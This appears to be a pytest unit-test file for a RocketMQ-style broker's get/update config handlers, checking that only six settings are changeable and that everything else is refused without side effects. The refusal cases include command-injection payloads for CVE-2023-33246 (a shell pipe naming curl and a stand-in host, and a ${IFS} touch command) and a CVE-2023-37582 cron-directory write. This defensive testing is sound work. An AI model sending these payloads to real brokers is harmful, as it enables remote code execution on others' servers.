"""What can be seen and changed of a broker's settings: little, typed, in range, all or nothing."""

import pytest

from tests.unit.broker.admin_core import Bench, topic_header
from trimtab.broker.handlers.config import CHANGEABLE
from trimtab.broker.settings import BrokerSettings
from trimtab.wire.bodies import DataVersion
from trimtab.wire.codes import RequestCode, ResponseCode
from trimtab.wire.fastjson import decode_body
from trimtab.wire.java_properties import decode_properties

GET = RequestCode.GET_BROKER_CONFIG
UPDATE = RequestCode.UPDATE_BROKER_CONFIG


def shown(bench: Bench) -> dict[str, str]:
    return decode_properties(bench.good(GET).body)


def version(bench: Bench) -> DataVersion:
    return decode_body(DataVersion, bench.good(GET).ext["version"].encode())


def test_settings_are_shown_by_their_apache_names() -> None:
    table = shown(Bench(BrokerSettings(default_topic_queues=5)))
    assert table["brokerName"] == "broker-a"
    assert table["defaultTopicQueueNums"] == "5"
    assert table["autoCreateTopicEnable"] == "true"
    assert table["flushDiskType"] == "SYNC_FLUSH"
    assert table["listenPort"] == "10911"
    assert CHANGEABLE.keys() <= table.keys()


def test_neither_paths_nor_secrets_are_shown() -> None:
    table = shown(Bench())
    assert [value for value in table.values() if "/" in value] == []
    assert [name for name in table if "secret" in name.lower() or "path" in name.lower()] == []


@pytest.mark.parametrize(
    ("name", "text", "attribute", "value"),
    [
        ("autoCreateTopicEnable", "false", "auto_create_topics", False),
        ("autoCreateSubscriptionGroup", "FALSE", "auto_create_groups", False),
        ("rejectTransactionMessage", "true", "reject_transactions", True),
        ("maxMessageSize", "65536", "message_bytes_max", 65_536),
        ("maxTransferBytesOnMessageInMemory", "4096", "pull_bytes_max", 4_096),
        ("maxTransferCountOnMessageInMemory", "64", "pull_messages_max", 64),
    ],
)
def test_six_settings_change_at_run_time(name: str, text: str, attribute: str, value: bool | int) -> None:
    bench = Bench()
    before = version(bench)
    bench.good(UPDATE, body=f"{name}={text}\n".encode())
    assert getattr(bench.core.settings, attribute) == value
    assert shown(bench)[name] == str(value).lower()
    assert version(bench).counter == before.counter + 1
    assert len(CHANGEABLE) == 6


def test_a_change_takes_effect() -> None:
    bench = Bench(BrokerSettings(auto_create_topics=False))
    assert "TBW102" not in bench.core.topics
    bench.good(UPDATE, body=b"autoCreateTopicEnable=true\n")
    bench.send("made-by-sending")
    bench.good(
        UPDATE, body=b"autoCreateTopicEnable=false\nmaxMessageSize=1024\nautoCreateSubscriptionGroup=false"
    )
    with pytest.raises(AssertionError, match="not exist"):
        bench.send("not-made")
    with pytest.raises(AssertionError, match="at most 1024"):
        bench.send("made-by-sending", b"x" * 1_025)
    assert bench.core.find_or_create_group("new", bench.now) is None


def test_what_is_the_same_is_no_change() -> None:
    bench = Bench()
    before = version(bench)
    bench.good(UPDATE, body=b"maxMessageSize=4194304\n")
    bench.good(UPDATE, body=b"")
    assert version(bench) == before


@pytest.mark.parametrize(
    "body",
    [
        b"filterServerNums=1\nrocketmqHome=-c $@|sh . echo curl x.example;\n",  # CVE-2023-33246
        b"rocketmqHome=/tmp;touch${IFS}/tmp/pwned\nfilterServerNums=1",
        b"maxMessageSize=2048\nrocketmqHome=/tmp/x\n",  # one that may, one that may not
        b"rocketmqHome=/tmp/x\nmaxMessageSize=2048\n",
        b"configStorePath=/etc/cron.d/x\n",  # CVE-2023-37582
        b"storePathRootDir=/tmp\n",
        b"namesrvAddr=10.0.0.1:9876\n",
        b"brokerIP1=10.0.0.1\n",
        b"listenPort=1\n",
        b"brokerPermission=0\n",
        b"aclEnable=false\n",
        b"__class__=x\n",
        b"settings.message_bytes_max=1\n",
        b"message_bytes_max=1024\n",
        b"maxMessageSize=1023\n",
        b"maxMessageSize=4194305\n",
        b"maxMessageSize=-1\n",
        b"maxMessageSize=1e6\n",
        b"maxMessageSize=0x10000\n",
        b"maxMessageSize=" + b"9" * 5_000 + b"\n",
        "maxMessageSize=١٢٣٤".encode(),
        b"maxMessageSize=\n",
        b"maxMessageSize\n",
        b"autoCreateTopicEnable=yes\n",
        b"autoCreateTopicEnable=1\n",
        b"\xff\xfe=1\n",
        b"=1\n",
        b"maxMessageSize=\\u12\n",
        b"x=" + b"y" * 100_000,
        b"maxMessageSize=2048\nmaxTransferCountOnMessageInMemory=0\n",
    ],
)
def test_anything_else_is_refused_and_nothing_changes(body: bytes) -> None:
    bench = Bench()
    settings, seen, files = bench.core.settings, shown(bench), bench.disk.names("")
    code, remark = bench.refusal(UPDATE, body=body)
    assert code in (ResponseCode.NO_PERMISSION, ResponseCode.SYSTEM_ERROR)
    assert remark.startswith("nothing was changed")
    assert len(remark) < 1_000
    assert bench.core.settings is settings
    assert shown(bench) == seen
    assert bench.disk.names("") == files


def test_forbidden_names_are_a_matter_of_permission() -> None:
    assert (
        Bench().refusal(UPDATE, body=b"filterServerNums=1\nrocketmqHome=x\n")[0] == ResponseCode.NO_PERMISSION
    )


def test_a_change_lasts_until_the_broker_stops() -> None:
    bench = Bench()
    bench.good(UPDATE, body=b"maxMessageSize=2048\n")
    bench.store.close()
    assert shown(Bench(BrokerSettings(), bench.disk))["maxMessageSize"] == str(4 << 20)


def test_topics_made_possible_by_a_change_are_registered() -> None:
    bench = Bench(BrokerSettings(auto_create_topics=False))
    bench.name_servers_know()
    bench.good(UPDATE, body=b"autoCreateTopicEnable=true\n")
    assert bench.core.changed_routes is None
    assert bench.refusal(RequestCode.UPDATE_AND_CREATE_TOPIC, topic_header("TBW102"))
